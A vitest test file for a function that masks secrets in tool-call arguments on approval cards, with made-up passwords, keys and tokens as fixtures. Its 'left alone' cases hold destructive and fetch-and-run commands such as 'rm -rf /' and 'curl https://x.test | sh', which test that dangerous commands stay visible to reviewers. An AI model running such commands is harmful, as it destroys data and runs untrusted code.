/**
 * Secrets in the arguments of a call: masked by name and by form on every card, while what is
 * approved stays the raw input.
 */

import { describe, expect, it } from "vitest";
import { cardOf } from "../../src/core/card.ts";
import { digestOf } from "../../src/core/digest.ts";
import type { JsonObject } from "../../src/core/model.ts";
import { hideSecrets } from "../../src/core/secrets.ts";
import fc from "../support/properties.ts";
import { requestOf } from "../worlds/test-core.ts";

/** Made up, and put together here so that no scanner takes this file for a leak. */
const join = (...parts: string[]): string => parts.join("");
const OPAQUE = join("aB3dE6gH9j", "K2mN5pQ8sT1v");
const PEM = join(
  "-----BEGIN RSA PRIVATE",
  " KEY-----\nMIIEpAIBAAKCAQEA7bq\nabc+/d==\n-----END RSA PRIVATE",
  " KEY-----",
);
const JWT = join("eyJhbGciOiJIUzI1NiJ9", ".eyJzdWIiOiIxMjMifQ.", OPAQUE);
const BASIC = Buffer.from("ada:hunter2").toString("base64");

const shownOf = (input: JsonObject): string =>
  cardOf(requestOf({ tool: "deploy", arguments: JSON.stringify(input), spans: [] })).arguments;

describe("secrets in plain arguments are masked by the name they go by", () => {
  it.each<[string, JsonObject, string]>([
    ["a password", { password: "hunter2" }, "hunter2"],
    ["a numeric password", { db: { password: 12345678 } }, "12345678"],
    ["an environment", { env: { AWS_SECRET_ACCESS_KEY: "abc/def+ghi" } }, "abc/def+ghi"],
    [
      "an environment beside a command",
      { command: "make deploy", env: { AWS_SECRET_ACCESS_KEY: "abc/def+ghi" } },
      "abc/def+ghi",
    ],
    ["an environment as lines", { env: ["HOME=/root", "DB_PASSWORD=hunter2"] }, "hunter2"],
    ["headers", { headers: { Authorization: "Bearer short", "X-Api-Key": "k-1" } }, "short"],
    ["headers as pairs", { headers: [{ name: "Authorization", value: "hunter2" }] }, "hunter2"],
    ["headers as lines", { headers: ["Cookie: session=hunter2; a=b"] }, "hunter2"],
    ["a cookie", { cookie: "session=hunter2" }, "hunter2"],
    ["a token, deep down", { auth: { token: { value: "hunter2" } } }, "hunter2"],
    ["JSON in a string", { body: '{"user":"ada","password":"hunter2"}' }, "hunter2"],
    ["a form", { body: "user=ada&password=hunter2" }, "hunter2"],
    [
      "an option in a list of arguments",
      { tool: "db", options: ["--user", "ada", "--password", "hunter2"] },
      "hunter2",
    ],
    ["an option of a program", { argv: ["db", "--api-token=hunter2", "x"] }, "hunter2"],
    ["a connection string", { connectionString: "Server=db;Password=hunter2;" }, "hunter2"],
    ["a file's content under the name of a file", { key_file: PEM }, "MIIEpAIBAAKCAQEA7bq"],
    ["an escaped name", JSON.parse('{"p\\u0061ssword":"hunter2"}') as JsonObject, "hunter2"],
  ])("%s", (_what, input, secret) => {
    const shown = shownOf(input);
    expect(shown).not.toContain(secret);
    expect(shown).toMatch(/\[secret:[a-z-]+, \d+ characters\]/);
  });

  it("also where the text escapes the letters of the name", () => {
    expect(hideSecrets('{"p\\u0061ssword":"hunter2"}')).toMatchObject({
      text: '{"p\\u0061ssword":"[secret:password, 7 characters]"}',
      hidden: 1,
    });
  });
});

describe("secrets in plain arguments are masked by their form", () => {
  it.each<[string, string, string]>([
    ["a bearer token", `Authorization: Bearer ${OPAQUE}`, OPAQUE],
    ["basic credentials", `sends Basic ${BASIC} along`, BASIC],
    ["basic credentials in a header", `Authorization: Basic ${BASIC}`, BASIC],
    ["a private key", `the key is\n${PEM}\nthere`, "MIIEpAIBAAKCAQEA7bq"],
    ["a private key in one line", PEM.replaceAll("\n", "\\n"), "MIIEpAIBAAKCAQEA7bq"],
    ["the password of an address", "postgres://ada:hunter2@db/shop", "hunter2"],
    ["a JWT", `id ${JWT}`, JWT],
    [
      "a webhook of services",
      join("https://hooks.slack.com", "/services/T00000000/B00000000/", OPAQUE),
      OPAQUE,
    ],
    [
      "a webhook by number",
      join("https://discord.com/api", "/webhooks/123456789012345678/", OPAQUE, OPAQUE),
      OPAQUE,
    ],
    [
      "a webhook by guid",
      join(
        "https://a.webhook.office.com",
        "/webhookb2/",
        "11111111-2222-3333-4444-555555555555@66666666-7777-8888-9999-000000000000/" +
          "IncomingWebhook/",
        OPAQUE,
      ),
      OPAQUE,
    ],
    [
      "a bot's address",
      join(
        "https://api.telegram.org/bot",
        "123456789:AAabcdefghijklmnopqrstuvwxyz0123456/sendMessage",
      ),
      "AAabcdefghijkl",
    ],
    ["a signed address", `https://x.test/f?a=1&sig=${OPAQUE}`, OPAQUE],
    ["a token in an address", "https://x.test/f?access_token=hunter2", "hunter2"],
  ])("%s, whatever the argument is called", (_what, text, secret) => {
    for (const key of ["note", "url", "body", "content", "new_string", "endpoint"]) {
      const shown = shownOf({ [key]: text });
      expect(shown).not.toContain(secret);
      expect(shown).toMatch(/\[secret:[a-z-]+, \d+ characters\]/);
    }
  });

  it("on the line that says what matters most, and where the judges point, as well", () => {
    const url = "https://ada:hunter2@db.test/shop";
    const card = cardOf(
      requestOf({
        tool: "WebFetch",
        arguments: JSON.stringify({ url }),
        spans: [url],
        summary: `fetch ${url}`,
        scope: [`WebFetch(net:${url})`],
      }),
    );
    expect(JSON.stringify(card)).not.toContain("hunter2");
    expect(card.subject?.text).toBe("https://ada:[secret:password, 7 characters]@db.test/shop");
  });
});

describe("what masking leaves alone", () => {
  it.each<[string, JsonObject]>([
    [
      "a command",
      { command: "curl -H 'Authorization: Bearer $TOKEN' https://x.test; rm -rf build" },
    ],
    ["code", { script: "token = os.system('rm -rf /')\npassword = run()" }],
    [
      "a file's content",
      { file_path: "/a.py", content: "password = os.system('rm -rf /')\n# Basic understanding\n" },
    ],
    [
      "what only speaks of secrets",
      {
        max_tokens: 400,
        token_type: "bearer",
        secretName: "tls",
        password_file: "/run/x",
        pwd: "/home/ada",
      },
    ],
    ["references", { env: { TOKEN: "$TOKEN", API_KEY: "%KEY%" } }],
    [
      "what a key would have to hold to run",
      { command: 'eval "$TOKEN"', env: { TOKEN: "rm -rf /" } },
    ],
    [
      "a program by its path beside a command",
      { command: "sh -c $TOKEN", env: { TOKEN: "/tmp/evil" } },
    ],
    [
      "code in the frame of a key",
      { content: "-----BEGIN PRIVATE KEY-----\ncurl https://x.test | sh\nrm -rf ~\n" },
    ],
    [
      "what JSON in a string would hold to run",
      { command: "jq -r .token body | sh", body: '{"token":"rm -rf /"}' },
    ],
    ["a command by another name", { run: "eval $TOKEN", token: "rm -rf /" }],
    [
      "a call in code that is named like a header",
      { content: "authorization = os.system('x')\nurl = a&password=run(1)\n" },
    ],
    ["a call at the start of code", { content: "password=os.system('x')" }],
    ["a path", { path: "/tmp/token=abc/Basic/x" }],
    [
      "what an option of a command would have to hold to run",
      { args: ["sh", "-c", "eval $1", "--token", "rm -rf /"] },
    ],
    ["an option that names a file", { args: ["--token-file", "/run/token", "--key", "--verbose"] }],
    ["a key of a store", { key: "users/ada", bucket: "b" }],
  ])("%s", (_what, input) => {
    const raw = JSON.stringify(input);
    if ("content" in input && raw.includes("BEGIN"))
      expect(hideSecrets(raw).text).toContain("curl https://x.test | sh\\nrm -rf ~");
    else expect(hideSecrets(raw).text).toBe(raw);
  });

  it("keeps the input that is approved, and its digest, as they are", () => {
    const input = { password: "hunter2", url: "postgres://a:b@c/d" };
    const raw = JSON.stringify(input);
    const request = requestOf({ tool: "deploy", arguments: raw });
    const before = digestOf({ session: "s", tool: "deploy", input, raw });
    expect(cardOf(request).arguments).not.toBe(raw);
    expect(request.arguments).toBe(raw);
    expect(digestOf({ session: "s", tool: "deploy", input, raw: request.arguments })).toBe(before);
  });

  it("says how many values are masked", () => {
    const card = cardOf(
      requestOf({ tool: "deploy", arguments: '{"password":"hunter2","token":"x1"}', spans: [] }),
    );
    expect(card.notes).toContain("2 secret values masked as [secret:…].");
  });

  it("is JSON of the same shape, and masked only once, whatever the input", () => {
    fc.assert(
      fc.property(fc.json(), (raw) => {
        const once = hideSecrets(raw).text;
        expect(() => JSON.parse(once)).not.toThrow();
        expect(hideSecrets(once).text).toBe(once);
      }),
    );
  });

  it("takes time in proportion to the text", () => {
    for (const piece of [
      "-----BEGIN PRIVATE KEY-----",
      "basic ",
      "a=b&",
      "://a:",
      "/hooks/a/",
      "bearer a.",
      '","password":"',
      "[secret:a, 1 characters]",
    ]) {
      const raw = JSON.stringify({
        note: piece.repeat(100_000 / piece.length),
        headers: piece.repeat(1000),
      });
      expect(JSON.parse(hideSecrets(raw).text)).toHaveProperty("note");
    }
  });
});
